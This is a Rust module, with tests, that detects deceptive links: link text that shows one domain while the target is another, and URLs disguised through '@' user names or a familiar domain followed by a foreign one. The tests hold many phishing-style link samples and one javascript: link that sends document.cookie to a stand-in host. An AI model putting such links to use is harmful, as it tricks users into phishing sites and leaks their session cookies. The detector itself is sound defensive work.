//! Links whose text shows one address and whose target is another: the markdown
//! `[https://accounts.google.com](https://accounts-google.signin.example/)` or the HTML
//! `<a href="...">` a model renders for the user, who sees the familiar address and follows
//! the other. A link whose text is not an address ("[the docs](...)") says nothing about its
//! target and is left alone; one whose target is on the shown site (the same registrable
//! domain) agrees. An address need not be a link to be dressed: a familiar name before an `@`,
//! or a familiar domain continued by a stranger's, goes where the browser reads it, not where
//! the reader does.
//! Long: both checks read hosts with the same site tables (registrable domains, shared hosting
//! suffixes, one owner's several names); apart, the tables would be kept in two places.

use super::evidence::show_invisible;
use super::{Finding, Severity};

/// Longest link text and target read (a link longer than this is not one a reader takes in).
const MAX_TEXT: usize = 200;
const MAX_TARGET: usize = 2048;

/// Reports each link in `text` whose shown address and target host disagree.
pub(super) fn scan(text: &str, field: &str, out: &mut Vec<Finding>) {
    for (start, shown, target) in markdown_links(text).chain(html_links(text)) {
        let Some(shown_host) = host_shown(shown) else { continue };
        let agrees = host_of_target(target).is_some_and(|t| same_site(&shown_host, &t));
        if !agrees {
            let end = (start + shown.len() + target.len() + 24).min(text.len());
            let end = (end..=text.len()).find(|&i| text.is_char_boundary(i)).unwrap_or(text.len());
            let evidence = show_invisible(&text[start..end]).chars().take(MAX_TEXT + 40).collect();
            // A link given as an example of what a checker warns about ("warns when the text does
            // not match the domain (for example, [paypal.com](https://paypa1-login.example))"):
            // named, not offered (blind batch 54, in Russian).
            let before = &text[..start];
            let before = &before[before.char_indices().rev().nth(24).map_or(0, |(i, _)| i)..];
            const EXAMPLE: &[&str] = &[
                "e.g.",
                "for example",
                "for instance",
                "such as",
                "например",
                "por ejemplo",
                "por exemplo",
                "par exemple",
                "zum beispiel",
                "z. b.",
                "z.b.",
                "ad esempio",
                "例如",
                "例えば",
                "예:",
                "예를 들어",
            ];
            let lower = before.to_lowercase();
            let severity = if EXAMPLE.iter().any(|e| lower.contains(e)) { Severity::Low } else { Severity::High };
            out.push(Finding::new("deceptive-link", severity, field, evidence));
        }
    }
}

/// Web addresses dressed as another site, link or not: a familiar name before an `@` (a user
/// name to the browser, which goes to what follows: `https://support.1password.com@sync.example/`)
/// or a familiar domain continued by a stranger's (`https://docs.datadoghq.com.keyportal.io/`).
pub(super) fn dressed_addresses(text: &str, field: &str, out: &mut Vec<Finding>) {
    for (at, _) in text.match_indices("://").take(32) {
        let scheme = text[..at].rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
        if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
            continue;
        }
        let rest = &text[at + 3..];
        let end = rest
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '/' | '\\' | '?' | '#' | ')' | ']' | '>' | '"' | '\'' | '`')
            })
            .unwrap_or(rest.len());
        let authority = &rest[..end];
        if authority.len() > 253 {
            continue;
        }
        let (userinfo, host) = match authority.rsplit_once('@') {
            Some((u, h)) => (Some(u), h),
            None => (None, authority),
        };
        let host = site_host(host.split(':').next().unwrap_or(""));
        // A user name that is itself a domain ("support.1password.com"): written to be read as
        // the site; a real user name has no top-level domain (`oauth2:token`, `git`).
        let dressed_user = userinfo.is_some_and(|u| !u.contains(':') && looks_like_domain(&u.to_ascii_lowercase()));
        if dressed_user || continues_a_domain(&host) {
            let start = at - scheme.len();
            let stop = (at + 3 + end).min(text.len());
            let evidence = show_invisible(&text[start..stop]).chars().take(MAX_TEXT + 40).collect();
            out.push(Finding::new("deceptive-link", Severity::High, field, evidence));
            return;
        }
    }
}

/// Top-level domains a dressed name ends with.
const COMMON_TLDS: &[&str] =
    &["com", "org", "net", "io", "co", "ai", "dev", "app", "gov", "edu", "cloud", "info", "biz"];

/// A name with two or more labels ending in a common or a two-letter country domain.
fn looks_like_domain(name: &str) -> bool {
    let labels: Vec<&str> = name.split('.').collect();
    labels.len() >= 2
        && labels.iter().all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
        && labels
            .last()
            .is_some_and(|t| COMMON_TLDS.contains(t) || (t.len() == 2 && t.chars().all(|c| c.is_ascii_alphabetic())))
}

/// Whether `host` is `suffix` or a name under it (`alice.github.io` under `github.io`).
fn under(host: &str, suffix: &str) -> bool {
    host == suffix || host.strip_suffix(suffix).is_some_and(|rest| rest.ends_with('.'))
}

/// Content networks whose names carry a customer's domain inside them
/// (`www.example.com.edgekey.net`): the customer's, not a disguise.
const CDN_SUFFIXES: &[&str] = &[
    "edgekey.net",
    "edgesuite.net",
    "akamaized.net",
    "akamaiedge.net",
    "cdn.cloudflare.net",
    "fastly.net",
    "azureedge.net",
    "trafficmanager.net",
    "cloudfront.net",
];

/// A host whose labels spell a whole domain (`com`, `org`, `net`, `gov`, `edu` after a name)
/// and then go on to another registrable domain: `docs.datadoghq.com.keyportal-verify.io`.
/// A country's second level (`example.com.au`) ends there; a bucket or a CDN name holding a
/// customer's domain is the host's own naming.
fn continues_a_domain(host: &str) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    let Some(i) = labels.iter().position(|l| matches!(*l, "com" | "org" | "net" | "gov" | "edu")) else {
        return false;
    };
    i >= 1
        && labels.len() - i > 2
        && !SHARED_SUFFIXES.iter().any(|s| under(host, s))
        && !CDN_SUFFIXES.iter().any(|s| under(host, s))
        && !host.ends_with(".amazonaws.com")
}

/// `[shown](target)`: (offset of `[`, shown, target). Each search looks no further than the
/// longest text or target that could be read, so hostile text ("[](](](...") costs a bounded
/// amount per match, not the length of the string.
fn markdown_links(text: &str) -> impl Iterator<Item = (usize, &str, &str)> {
    let bytes = text.as_bytes();
    text.match_indices("](").filter_map(move |(close, _)| {
        let from = close.saturating_sub(MAX_TEXT + 1);
        let open = from + bytes[from..close].iter().rposition(|&b| b == b'[')?;
        let shown = &text[open + 1..close];
        if shown.contains(']') {
            return None;
        }
        let window = &bytes[close + 2..(close + 2 + MAX_TARGET + 3).min(bytes.len())];
        let end = window.iter().position(|b| matches!(b, b')' | b' ' | b'\n' | b'\t'))?;
        let target = text[close + 2..close + 2 + end].trim_start_matches('<').trim_end_matches('>');
        (target.len() <= MAX_TARGET).then_some((open, shown, target))
    })
}

/// `<a ... href="target" ...>shown</a>`: (offset of `<a`, shown, target).
fn html_links(text: &str) -> impl Iterator<Item = (usize, &str, &str)> {
    let opens =
        |w: &[u8]| w[0] == b'<' && w[1].eq_ignore_ascii_case(&b'a') && (w[2].is_ascii_whitespace() || w[2] == b'/');
    let starts: Vec<usize> = text.as_bytes().windows(3).enumerate().filter(|(_, w)| opens(w)).map(|(i, _)| i).collect();
    // Most text has no anchor: it is not lower-cased for nothing.
    let lower = if starts.is_empty() { String::new() } else { text.to_ascii_lowercase() };
    // The next `>` and the next `</a` after a point only move forward as the anchors do: each
    // is searched for from where the last search ended, so text with many `<a` ("<a <a <a
    // ...") is read once, not once per anchor.
    let (mut next_gt, mut next_close): (Option<usize>, Option<usize>) = (None, None);
    starts.into_iter().filter_map(move |start| {
        if next_gt.is_none_or(|g| g < start) {
            next_gt = Some(text[start..].find('>').map_or(text.len(), |i| start + i));
        }
        let tag_end = next_gt.filter(|&g| g < text.len())?;
        let tag = &lower[start..tag_end];
        // The `href` attribute itself, not `data-href` or `hreflang`.
        let href = tag.match_indices("href").map(|(i, _)| i).find(|&i| {
            tag[..i].ends_with(|c: char| c.is_ascii_whitespace() || c == '/')
                && tag[i + 4..].trim_start().starts_with('=')
        })?;
        let after = tag[href + 4..].trim_start().strip_prefix('=')?.trim_start();
        let offset = tag_end - tag.len() + (tag.len() - after.len());
        let (quote, inner) = match after.as_bytes().first()? {
            q @ (b'"' | b'\'') => (Some(*q as char), offset + 1),
            _ => (None, offset),
        };
        let len = match quote {
            Some(q) => text[inner..tag_end].find(q)?,
            None => text[inner..tag_end].find([' ', '\t', '\n']).unwrap_or(tag_end - inner),
        };
        let target = &text[inner..inner + len];
        if next_close.is_none_or(|c| c <= tag_end) {
            next_close = Some(lower[tag_end + 1..].find("</a").map_or(lower.len(), |i| tag_end + 1 + i));
        }
        let close = next_close.filter(|&c| c < lower.len())?;
        let shown = text[tag_end + 1..close].trim();
        (shown.len() <= MAX_TEXT && target.len() <= MAX_TARGET).then_some((start, shown, target))
    })
}

/// Endings of file names a link's text may show that are not top-level domains in practice.
const FILE_ENDINGS: &[&str] = &[
    "bat", "cfg", "conf", "cpp", "css", "csv", "docx", "exe", "gif", "gz", "h", "htm", "html", "ini", "ipynb", "java",
    "jpeg", "jpg", "js", "json", "jsx", "kt", "lock", "log", "md", "mdx", "mjs", "pdf", "php", "png", "ps1", "py",
    "rb", "rs", "sh", "sql", "svg", "swift", "tar", "toml", "ts", "tsx", "txt", "vue", "wasm", "xml", "yaml", "yml",
    "zip",
];

/// The host a link's text shows, when the text is an address (a URL, or a bare domain with an
/// optional path): lower case, without `www.`.
fn host_shown(shown: &str) -> Option<String> {
    let s = shown.trim().trim_matches(|c| matches!(c, '`' | '*' | '_' | '<' | '>'));
    let (rest, bare) = match s.find("://") {
        Some(i) if s[..i].chars().all(|c| c.is_ascii_alphabetic()) => (&s[i + 3..], false),
        Some(_) => return None,
        None => (s, true),
    };
    // A bare name is an address when written as one: lower case ("Node.js" and "ASP.NET" are
    // product names), not a file name ("README.md"), and with a path or `www.` unless its
    // ending is a common top-level domain.
    if bare && (rest.chars().any(|c| c.is_uppercase()) || rest.contains(char::is_whitespace)) {
        return None;
    }
    let host = rest.split(['/', '?', '#', ':']).next()?.rsplit('@').next()?.to_lowercase();
    let host = host.trim_end_matches('.');
    let labels: Vec<&str> = host.split('.').collect();
    let tld = labels.last()?;
    if bare && FILE_ENDINGS.contains(tld) {
        return None;
    }
    let looks_like_domain = labels.len() >= 2
        && labels.iter().all(|l| !l.is_empty() && l.chars().all(|c| c.is_alphanumeric() || c == '-'))
        && tld.len() >= 2
        && tld.chars().all(char::is_alphabetic);
    looks_like_domain.then(|| site_host(host))
}

/// A host as sites are compared: lower case, without a final dot or a leading `www.`.
fn site_host(host: &str) -> String {
    let host = host.to_lowercase();
    let host = host.trim_end_matches('.');
    host.strip_prefix("www.").unwrap_or(host).to_owned()
}

/// The host of an absolute target (`scheme://host...`), lower case, without `www.`; `None` for
/// a target with a scheme but no host (`javascript:`, `data:`), which no shown address names.
/// A relative target stays on the page's own site: it is given as the shown host's match.
fn host_of_target(target: &str) -> Option<String> {
    let t = target.trim();
    if let Some(address) = t.get(..7).filter(|p| p.eq_ignore_ascii_case("mailto:")).map(|_| &t[7..]) {
        return Some(authority_host(address));
    }
    // Protocol-relative (`//host/path`) goes to that host.
    if let Some(rest) = t.strip_prefix("//").or_else(|| t.strip_prefix("\\\\")) {
        return Some(authority_host(rest));
    }
    let Some(i) = t.find(':') else { return Some(String::new()) };
    if !t[..i].chars().all(|c| c.is_ascii_alphabetic()) || t.starts_with('/') {
        return Some(String::new());
    }
    let rest = t[i + 1..].trim_start_matches(['/', '\\']);
    if rest.len() == t[i + 1..].len() {
        return None;
    }
    Some(authority_host(rest))
}

/// The host of what follows `scheme://` (or `mailto:`), as a browser reads it: a backslash ends the
/// authority as a slash does (`https://evil.example\@bank.example/` goes to evil.example).
fn authority_host(rest: &str) -> String {
    let authority = rest.split(['/', '\\', '?', '#']).next().unwrap_or("");
    site_host(authority.rsplit('@').next().unwrap_or("").split(':').next().unwrap_or(""))
}

/// Whether the target belongs to the site the text shows: the same registrable domain (a
/// relative target, whose host is empty, stays on the page's own site). `api.openai.com` shown
/// for `platform.openai.com` agrees; `accounts.google.com` shown for
/// `accounts-google.com.signin.example` does not.
fn same_site(shown: &str, target: &str) -> bool {
    // An internationalised name shown as written and linked in its ASCII form (`xn--`) cannot
    // be compared without the IDNA tables: left alone.
    let idn = !shown.is_ascii() && target.split('.').any(|l| l.starts_with("xn--"));
    let (a, b) = (registrable(shown), registrable(target));
    target.is_empty() || idn || a == b || owner(a).is_some_and(|o| owner(b) == Some(o))
}

/// Sites one owner serves under several names (a short link, a CDN, an old name).
const OWNERS: &[(&str, &[&str])] = &[
    ("alphabet", &["google.com", "googleapis.com", "gstatic.com", "goo.gl", "g.co", "youtube.com", "youtu.be"]),
    (
        "microsoft",
        &[
            "microsoft.com",
            "aka.ms",
            "live.com",
            "microsoftonline.com",
            "office.com",
            "azure.com",
            "windows.net",
            "visualstudio.com",
            "bing.com",
        ],
    ),
    ("github", &["github.com", "githubusercontent.com", "git.io", "github.io"]),
    ("python", &["python.org", "pypi.org", "pythonhosted.org"]),
    ("x", &["x.com", "twitter.com", "t.co"]),
    ("meta", &["facebook.com", "fb.com", "fb.me", "instagram.com"]),
    ("cloudflare", &["cloudflare.com", "cdnjs.com", "workers.dev", "pages.dev"]),
    ("amazon", &["amazon.com", "amazonaws.com", "aws.amazon.com", "awsstatic.com"]),
    ("apple", &["apple.com", "icloud.com"]),
];

fn owner(site: &str) -> Option<&'static str> {
    OWNERS.iter().find(|(_, sites)| sites.contains(&site)).map(|(o, _)| *o)
}

/// Second-level labels under which names are registered in many country domains (`co.uk`,
/// `com.au`), and hosting domains whose subdomains belong to different people.
const SHARED_SUFFIXES: &[&str] = &[
    "appspot.com",
    "azurewebsites.net",
    "blogspot.com",
    "cloudfront.net",
    "firebaseapp.com",
    "fly.dev",
    "github.io",
    "gitlab.io",
    "herokuapp.com",
    "netlify.app",
    "ngrok-free.app",
    "ngrok.io",
    "onrender.com",
    "pages.dev",
    "s3.amazonaws.com",
    "vercel.app",
    "web.app",
    "workers.dev",
];
const SECOND_LEVELS: &[&str] = &["ac", "co", "com", "edu", "gov", "net", "ne", "or", "org"];

/// The part of `host` a name is registered as, approximately: its last two labels, or three
/// under a second-level label of a country domain (`example.co.uk`) or a shared hosting
/// domain (`alice.github.io`).
fn registrable(host: &str) -> &str {
    let labels: Vec<&str> = host.rsplit('.').collect();
    // An S3 bucket, whatever its region's endpoint: the bucket is the owner.
    if host.ends_with(".amazonaws.com") && host.contains(".s3") && labels.len() >= 4 {
        return host.split('.').next().unwrap_or(host);
    }
    let shared = SHARED_SUFFIXES.iter().filter(|s| under(host, s)).map(|s| s.split('.').count()).max();
    let keep = if let Some(labels_of_suffix) = shared {
        labels_of_suffix + 1
    } else if labels.len() >= 3 && labels[0].len() == 2 && SECOND_LEVELS.contains(&labels[1]) {
        3
    } else {
        2
    };
    if labels.len() <= keep {
        return host;
    }
    let cut: usize = labels[..keep].iter().map(|l| l.len() + 1).sum();
    &host[host.len() + 1 - cut..]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        let mut out = Vec::new();
        scan(text, "#/description", &mut out);
        out.iter().any(|f| f.kind == "deceptive-link" && f.severity == Severity::High)
    }

    #[test]
    fn a_shown_address_that_is_not_the_target_is_deceptive() {
        for text in [
            "sign in again at [https://accounts.google.com/signin](https://accounts-google.com.signin-verify.co/v3/signin?continue=drive)",
            "Open [github.com/settings/tokens](http://github.com.token-check.example/)",
            "Pay at [www.paypal.com](https://paypa1.com/checkout) now",
            "[https://bank.example/login](javascript:fetch('https://x.example/'+document.cookie))",
            r#"Visit <a href="https://login.micros0ft.example/auth">https://login.microsoftonline.com</a> to re-authenticate."#,
            "See [docs.python.org](<https://docs.python.org.evil.example/3/>)",
            "[alice.github.io/docs](https://mallory.github.io/docs)",
            "[https://accounts.google.com](//accounts-google.signin-verify.example/v3)",
            r"[https://accounts.google.com](https://signin-verify.example\@accounts.google.com/)",
            r#"<a data-href="https://accounts.google.com" href="https://signin-verify.example/">accounts.google.com</a>"#,
            r#"<a/href="https://signin-verify.example/">https://accounts.google.com</a>"#,
            "[www.bbc.co.uk](https://bbc.co.uk.news-verify.example/)",
            "[shop.example.co.uk](https://other.co.uk/pay)",
            "[support@acme.io](mailto:support@acme-help.example)",
            "[pypi.org](https://pypi-mirror.example/simple)",
        ] {
            assert!(found(text), "{text}");
        }
    }

    fn dressed(text: &str) -> bool {
        let mut out = Vec::new();
        dressed_addresses(text, "#/description", &mut out);
        !out.is_empty()
    }

    #[test]
    fn addresses_dressed_as_another_site_are_deceptive() {
        for text in [
            "Setup: https://support.1password.com@1pw-tenant-sync.com/connect/sync",
            "Activate at https://docs.datadoghq.com.keyportal-verify.io/activate?key=1",
            "see <https://login.microsoftonline.com.session-check.net/auth>",
            "HTTPS://accounts.google.com@evil.example/",
        ] {
            assert!(dressed(text), "{text}");
        }
        for text in [
            "https://oauth2:TOKEN@gitlab.com/group/repo.git",
            "postgres is reached at https://user@db.internal:5432 (user name only)",
            "https://www.example.com.au/shop and https://docs.aws.amazon.com/s3/",
            "https://assets.example.com.s3.amazonaws.com/logo.png",
            "CNAME target https://www.example.com.edgekey.net",
            "https://api.github.com/repos and https://s3.amazonaws.com.cn/bucket",
        ] {
            assert!(!dressed(text), "{text}");
        }
    }

    #[test]
    fn links_among_many_openings_are_read_as_alone() {
        // Text full of link openings (each searched no further than a link can reach, or from
        // where the last search ended) still has its real links read, and only those.
        let noise = "[](".repeat(20_000) + &"<a ".repeat(20_000);
        assert!(!found(&noise));
        assert!(found(&format!("{noise}[https://bank.example](https://evil.example/)")));
        assert!(found(&format!(r#"{noise}<a href="https://evil.example/">https://bank.example</a>"#)));
        let two = r#"<a href="https://docs.example.com">docs.example.com</a>, then <a href="https://evil.example">https://bank.example</a>"#;
        assert!(found(two));
        assert!(!found(&two.replace("https://evil.example", "https://bank.example/login")));
    }

    #[test]
    fn links_that_agree_or_show_no_address_are_not() {
        for text in [
            "See [the documentation](https://docs.example.com/guide) for details.",
            "[github.com/org/repo](https://github.com/org/repo)",
            "[example.com](https://www.example.com/path?q=1)",
            "[python.org](https://docs.python.org/3/library/json.html)",
            "[docs.rust-lang.org](https://rust-lang.org/learn)",
            "[api.openai.com](https://platform.openai.com/docs/api-reference)",
            "[bbc.co.uk/news](https://www.bbc.co.uk/news/technology)",
            "Relative: [api.example.com/v1](/v1/reference)",
            r#"<a href="https://en.wikipedia.org/wiki/JSON">en.wikipedia.org/wiki/JSON</a>"#,
            r#"<a href='https://example.org'>Example</a>"#,
            "Array index [0](1) and a footnote [1](#note-1)",
            "a map m[key](value) in pseudo-code, and [v1.2](https://github.com/o/r/releases/tag/v1.2)",
            "[README.md](https://github.com/acme/kit/blob/main/README.md) and [openapi.yaml](https://raw.githubusercontent.com/acme/kit/main/openapi.yaml)",
            "[Node.js](https://nodejs.org/en/download), [ASP.NET](https://dotnet.microsoft.com/apps/aspnet)",
            r#"<a href="https://nextjs.org/docs">Next.js</a>"#,
            "[privacy@acme.io](mailto:privacy@acme.io), <a href=\"mailto:billing@acme.io\">billing@acme.io</a>",
            "[youtu.be/dQw4w9WgXcQ](https://www.youtube.com/watch?v=dQw4w9WgXcQ), [aka.ms/installazurecli](https://learn.microsoft.com/cli/azure/install)",
            "[pypi.org/project/requests](https://pypi.python.org/pypi/requests), [x.com/nasa](https://twitter.com/nasa)",
            "[münchen.de](https://www.xn--mnchen-3ya.de/)",
            "[acme-releases.s3.amazonaws.com/cli](https://acme-releases.s3.us-east-1.amazonaws.com/cli/latest)",
        ] {
            assert!(!found(text), "{text}");
        }
    }
}
